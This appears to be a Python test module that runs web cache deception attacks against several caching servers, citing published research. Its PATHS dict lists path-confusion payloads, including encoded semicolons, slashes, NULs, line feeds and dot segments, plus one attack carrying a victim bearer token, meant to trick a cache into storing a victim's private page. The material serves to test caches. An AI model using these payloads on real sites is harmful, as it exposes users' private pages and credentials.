"""Pages of one person under names that look public (Gil 2017; Mirheidari 2020, 2022): the victim follows a link, then the attacker asks.

Every server has a rule that stores what looks like a file, `.css` and `.txt`, for a minute, though the app does not say so.
nginx stores for all what it was asked for with a cookie; Varnish asks the app for whoever has one; Tagalong stores what it was asked
for with one only where the response says that it is for everybody.
"""

from attack import Attack, deception

PATHS = {
    "a static suffix": "/mine/nothing.css",
    "a suffix of the last segment": "/mine.css",
    "behind a semicolon": "/mine;nothing.css",
    "behind an encoded semicolon": "/mine%3bnothing.css",
    "behind an encoded slash": "/mine%2fnothing.css",
    "behind an encoded question mark": "/mine%3fnothing.css",
    "behind an encoded hash": "/mine%23nothing.css",
    "behind an encoded NUL": "/mine%00nothing.css",
    "behind an encoded line feed": "/mine%0anothing.css",
    "behind a dot segment": "/static/../mine/x.css",
    "behind an encoded dot segment": "/static/..%2fmine/x.css",
    "dots encoded": "/static/%2e%2e/mine/x.css",
    "a letter encoded": "/%6dine/nothing.css",
    "two slashes": "//mine//nothing.css",
    "robots.txt": "/mine/robots.txt",
}
OWN = ("gets a page of its own",)
ATTACKS = [
    *(Attack(name, deception(path), OWN) for name, path in PATHS.items()),
    Attack("a static suffix, with credentials", deception("/mine/nothing.css", "Authorization: Bearer victim"), OWN),
]
